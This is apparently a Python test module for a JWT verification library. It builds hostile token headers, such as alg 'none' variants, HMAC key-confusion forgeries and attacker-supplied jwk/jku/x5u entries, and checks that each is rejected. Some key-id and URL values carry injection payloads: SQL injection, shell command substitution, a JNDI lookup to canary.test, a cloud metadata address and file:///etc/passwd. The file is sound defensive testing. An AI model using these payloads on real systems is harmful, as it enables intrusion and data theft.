"""Headers that lie: algorithms, keys of the attacker's own, extensions, key ids, types."""

import hmac
import json
from collections.abc import Iterator
from typing import Any

from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat, load_pem_public_key

from tests.hostile.rows import (
    ATTACKER,
    CLAIMS,
    COMMITTED,
    EARLY,
    ED,
    ENDING,
    ES,
    ISSUER,
    RETIRED,
    RS,
    TENANT_2,
    Case,
    Changes,
    head_of,
    jwt,
    unsigned,
    with_signature,
    written,
)
from watchword.crypto.algorithms import JOSE_NAMES
from watchword.encoding import b64url, dump_json
from watchword.errors import (
    AlgorithmError,
    MalformedTokenError,
    SignatureError,
    UnknownKeyError,
    WrongIssuerError,
    WrongTypeError,
)
from watchword.keys.key import Key

UNSECURED: str = json.loads(COMMITTED.read_text())["unsecured"]["compact"]
"""RFC 7515 A.5."""


def malformed(ids: str, what: str, header: Changes, reason: str = "malformed", *, key: Key = ED) -> Case:
    return Case(ids, what, jwt(None, header, key=key), MalformedTokenError, reason)


def algorithms() -> Iterator[Case]:
    for alg in ("none", "None", "NONE", "nOnE"):
        token = jwt(None, {"alg": alg})
        yield Case("H-03 T1", f"{alg}, right signature", token, AlgorithmError, "alg_not_allowed")
        yield Case("H-03 T1", f"{alg}, junk", with_signature(token, b"junk"), AlgorithmError, "alg_not_allowed")
        empty = with_signature(token, b"")
        yield Case("H-03 T1", f"{alg}, no signature", empty, MalformedTokenError, "malformed")
        yield Case("H-03 T1", f"{alg}, as JWS", token, AlgorithmError, "alg_not_allowed", door="jws")
    yield Case("H-03 T1", "RFC 7515 A.5", UNSECURED, MalformedTokenError, "malformed", door="jws")
    yield Case(
        "H-03 T1", "RFC 7515 A.5, with a signature", f"{UNSECURED}AAAA", AlgorithmError, "alg_not_allowed", door="jws"
    )
    for alg in ("ed25519", "EDDSA", "eddsa", "es256", "hs256", "rs256"):
        yield Case("H-04 T1", alg, jwt(None, {"alg": alg}), AlgorithmError, "alg_not_allowed")
    cyrillic = "\u0415d25519"
    for alg in (
        "Ed25519 ",
        " Ed25519",
        "Ed25519\0",
        cyrillic,
        "E\u200bd25519",
        "",
        "v4.public",
        "v4.local",
        "dir",
        "A128KW",
    ):
        yield Case("H-05 T1", f"{alg!a}", jwt(None, {"alg": alg}), AlgorithmError, "alg_not_allowed")
    for wrong in (["Ed25519"], [], 0, 1.5, None, True, {"name": "Ed25519"}):
        yield malformed("H-05 T1", f"alg {wrong!r}", {"alg": wrong})
    missing = written({name: value for name, value in head_of(ED).items() if name != "alg"}, None)
    yield Case("H-05 T1", "alg missing", jwt(None, missing), AlgorithmError, "alg_not_allowed")
    for alg in ("ES384", "ES512", "ES256K", "ESP256", "ML-DSA-44"):
        token = jwt(None, {"alg": alg}, key=ES)
        yield Case("H-12 T4", f"{alg} for a P-256 key", token, AlgorithmError, known_or_not(alg))
    for key, alg in (
        (ED, "ES256"),
        (ES, "Ed25519"),
        (ES, "EdDSA"),
        (ES, "RS256"),
        (ED, "RS256"),
        (ED, "HS256"),
        (ES, "HS256"),
    ):
        token = jwt(None, {"alg": alg}, key=key)
        yield Case("H-12 T3", f"{alg} for {key.algorithm.name}", token, AlgorithmError, "key_alg_mismatch")
    for alg in ("PS256", "PS384", "RS384", "RS512", "RS1"):
        token = jwt(None, {"alg": alg}, key=RS)
        yield Case("H-12 T3", f"{alg} for RS256", token, AlgorithmError, known_or_not(alg), ring="rs256")


def known_or_not(alg: str) -> str:
    """An algorithm that exists here is another than the key's; any other is none at all."""
    return "key_alg_mismatch" if alg in JOSE_NAMES else "alg_not_allowed"


def public_forms(key: Key) -> dict[str, bytes]:
    """A public key in all the forms in which somebody may have fed it to an HMAC."""
    pem = key.public().to_pem()
    public: Any = load_pem_public_key(pem)
    jwk = key.public().to_jwk()
    der: bytes = public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
    ssh: bytes = public.public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH)
    forms = {
        "PEM": pem,
        "PEM, no final newline": pem.rstrip(b"\n"),
        "PEM, CRLF": pem.replace(b"\n", b"\r\n"),
        "PEM, blanks before": b"\n  " + pem,
        "PEM on one line": pem.strip().replace(b"\n", b"\\n"),
        "DER": der,
        "base64 of DER": b64url(der).encode(),
        "SSH": ssh,
        "JWK": dump_json(jwk),
        "JWK, sorted": json.dumps(jwk, sort_keys=True).encode(),
        "JWK, pretty": json.dumps(jwk, indent=2).encode(),
    }
    if key.algorithm.kty == "RSA":
        forms["PEM, PKCS#1"] = public.public_bytes(Encoding.PEM, PublicFormat.PKCS1)
        forms["DER, PKCS#1"] = public.public_bytes(Encoding.DER, PublicFormat.PKCS1)
    elif key.algorithm.kty == "EC":
        forms["X9.62 point"] = public.public_bytes(Encoding.X962, PublicFormat.UncompressedPoint)
        forms["X9.62 point, compressed"] = public.public_bytes(Encoding.X962, PublicFormat.CompressedPoint)
    else:
        forms["raw point"] = public.public_bytes(Encoding.Raw, PublicFormat.Raw)
    return forms


def confusion() -> Iterator[Case]:
    for key, ring in ((ED, "main"), (ES, "main"), (RS, "rs256")):
        for what, secret in public_forms(key).items():
            for named, header in {"": {}, ", no kid": {"kid": None}}.items():
                head = {name: value for name, value in {**head_of(key), "alg": "HS256", **header}.items() if value}
                message = f"{b64url(dump_json(head))}.{b64url(dump_json(CLAIMS))}"
                token = f"{message}.{b64url(hmac.digest(secret, message.encode(), 'sha256'))}"
                error, reason = (UnknownKeyError, "key_not_found") if named else (AlgorithmError, "key_alg_mismatch")
                yield Case("H-11 T2", f"{key.algorithm.name} {what}{named}", token, error, reason, ring=ring)


def own_keys() -> Iterator[Case]:
    jwk = ATTACKER.public().to_jwk()
    mine = {"kid": ATTACKER.kid}

    def case(ids: str, what: str, header: dict[str, Any]) -> Case:
        return malformed(ids, what, header, key=ATTACKER)

    for name, ids in (("jku", "H-13 T9"), ("x5u", "H-14 T9")):
        for url in (
            "https://canary.test/jwks.json",
            "http://127.0.0.1:9/jwks.json",
            "http://[::1]:9/jwks.json",
            "http://169.254.169.254/latest/meta-data",
            "http://localhost.test/jwks.json",
            "ftp://canary.test/jwks.json",
            "file:///etc/passwd",
            "data:application/json,%7B%7D",
            f"{ISSUER}/jwks.json@canary.test",
        ):
            yield case(ids, f"{name} {url}", mine | {name: url})
        yield malformed(ids, f"{name} beside our own kid", {name: "https://canary.test/jwks.json"})
    yield case("H-14 T9", "x5c", mine | {"x5c": [b64url(b"certificate")]})
    yield case("H-15 T9", "jwk", mine | {"jwk": jwk})
    yield case("H-15 T9", "jwk, no kid", {"kid": "", "jwk": jwk})
    yield case("H-16 T9", "jwk with our kid", {"kid": ES.kid, "jwk": jwk | {"kid": ES.kid}})
    yield malformed("H-16 T9", "jwk that is our own", {"jwk": ES.public().to_jwk()}, key=ES)
    yield malformed("H-16 T9", "jwk null", {"jwk": None})
    unknown = jwt(None, None, key=ATTACKER)
    yield Case("H-15 T9", "the attacker's kid alone", unknown, UnknownKeyError, "key_not_found")
    for zipped in ("DEF", "", None):
        yield malformed("H-19", f"zip {zipped!r}", {"zip": zipped})
    for nested in ("JWT", "application/jwt", ""):
        yield malformed("H-20 T11", f"cty {nested!r}", {"cty": nested})
    inner = jwt(None, {"alg": "none"})
    yield Case("H-20 T11", "a JWT in a JWT", jwt(inner.encode()), MalformedTokenError, "malformed", calls=1)
    yield malformed("H-20 T11", "enc in a JWS", {"enc": "A128GCM"})


def extensions() -> Iterator[Case]:
    for crit in (["x"], [], ["alg"], "x", ["b64"], ["exp"], None, [1], ["x", "x"], {"x": 1}, True, ["kid", "typ"]):
        yield malformed("H-37 T13", f"crit {crit!r}", {"crit": crit, "x": 1}, "crit_unsupported")
    twice = dump_json(head_of(ED))[:-1] + b',"crit":["x"],"crit":[]}'
    yield malformed("H-37 T13", "crit twice", twice)
    for value in (False, True, None):
        yield malformed("H-38 T13", f"b64 {value}", {"b64": value}, "crit_unsupported")
        yield malformed("H-38 T13", f"b64 {value}, critical", {"b64": value, "crit": ["b64"]}, "crit_unsupported")
    head = b64url(dump_json({**head_of(ED), "b64": False, "crit": ["b64"]}))
    plain = json.dumps(CLAIMS).replace(".", "\\u002e")
    detached = f"{head}.{plain}.{b64url(ED.sign(f'{head}.{plain}'.encode()))}"
    yield Case("H-38 T13", "payload not encoded", detached, MalformedTokenError, "crit_unsupported")


def key_ids() -> Iterator[Case]:
    for kid in (
        "x' UNION SELECT '1';--",
        "' OR 1=1--",
        "../../dev/null",
        "/dev/null",
        "|sleep 10",
        "$(sleep 10)",
        "`id`",
        "${jndi:ldap://canary.test/a}",
        "k1\0",
        "k1\n",
        "k1 ",
        "\u043a1",
        "%6b1",
        "k" * 129,
    ):
        yield malformed("H-39 T10", f"kid {kid[:30]!a}", {"kid": kid})
    for wrong in (1, 1.0, None, True, ["k1"], {"kid": "k1"}, ""):
        yield malformed("H-40 T10", f"kid {wrong!r}", {"kid": wrong})
    several = written({"alg": "Ed25519", "typ": "at+jwt"}, None)
    yield Case("H-40 T10", "no kid, several keys", jwt(None, several), UnknownKeyError, "key_not_found")
    for kid in ("k0", "K1", "k1.", "constructor", "__proto__", "k" * 128):
        token = jwt(None, {"kid": kid})
        yield Case("H-41 T10 T20", f"unknown kid {kid[:20]}", token, UnknownKeyError, "key_not_found")
    for what, key in {"retired": RETIRED, "retired this second": ENDING, "not yet active": EARLY}.items():
        yield Case("H-54", f"key {what}", jwt(key=key), UnknownKeyError, "key_not_found")
        yield Case("H-54", f"key {what}, as JWS", jwt(key=key), UnknownKeyError, "key_not_found", door="jws")
    theirs = jwt(signer=TENANT_2)
    yield Case("H-55 T19", "another tenant's key with our kid", theirs, SignatureError, "bad_signature", calls=1)
    their_issuer = jwt({"iss": "https://as.test/t2"}, signer=TENANT_2)
    yield Case(
        "H-55 T19", "another tenant's token with our kid", their_issuer, SignatureError, "bad_signature", calls=1
    )
    issuer = jwt({"iss": "https://as.test/t2"})
    yield Case("H-55 T19", "our key, another issuer", issuer, WrongIssuerError, "wrong_issuer", calls=1, claim="iss")


def doubled() -> Iterator[Case]:
    base = dump_json(head_of(ED))
    for name, other in (("alg", '"none"'), ("kid", '"k2"'), ("typ", '"JWT"')):
        for spelling in (name, f"\\u{ord(name[0]):04x}{name[1:]}"):
            before = f'{{"{spelling}":{other},'.encode() + base[1:]
            after = base[:-1] + f',"{spelling}":{other}}}'.encode()
            yield malformed("H-42 T16", f"{spelling} twice, ours last", before)
            yield malformed("H-42 T16", f"{spelling} twice, ours first", after)
    yield malformed("H-42 T16", "a name twice, deep", base[:-1] + b',"x":{"y":1,"y":2}}')


def types() -> Iterator[Case]:
    for typ in (
        "JWT",
        "jwt+at",
        "at+jwt;x=1",
        "at+jwt ",
        "at",
        "",
        "text/at+jwt",
        "application/application/at+jwt",
        "application/",
        "at+jwt,at+jwt",
        "\u0430t+jwt",
    ):
        token = jwt(None, {"typ": typ})
        yield Case("H-47 T18", f"typ {typ!a}", token, WrongTypeError, "wrong_type", claim="typ")
    untyped = written({"alg": "Ed25519", "kid": ED.kid}, None)
    yield Case("H-47 T18", "typ missing", jwt(None, untyped), WrongTypeError, "wrong_type", claim="typ")
    for wrong in (None, 1, ["at+jwt"]):
        yield malformed("H-47 T18", f"typ {wrong!r}", {"typ": wrong})
    for what, typ, claims in (
        ("ID token", "JWT", {"nonce": "n-0S6", "aud": "client-1"}),
        ("logout token", "logout+jwt", {"events": {"http://schemas.openid.net/event/backchannel-logout": {}}}),
        ("DPoP proof", "dpop+jwt", {"htm": "GET", "htu": "https://api.test/me"}),
        ("client assertion", "client-authentication+jwt", {"sub": "client-1", "iss": "client-1"}),
        ("security event", "secevent+jwt", {"events": {}}),
        ("service token", "service+jwt", {}),
        ("introspection answer", "token-introspection+jwt", {"token_introspection": {"active": True}}),
    ):
        token = jwt(claims, {"typ": typ})
        yield Case("H-48 T18", what, token, WrongTypeError, "wrong_type", claim="typ")
    both = unsigned({"typ": "JWT"}, signature=b"x")
    yield Case("H-47 T18", "typ wrong, signature too", both, WrongTypeError, "wrong_type", claim="typ")


def cases() -> Iterator[Case]:
    for table in (algorithms, confusion, own_keys, extensions, key_ids, doubled, types):
        yield from table()
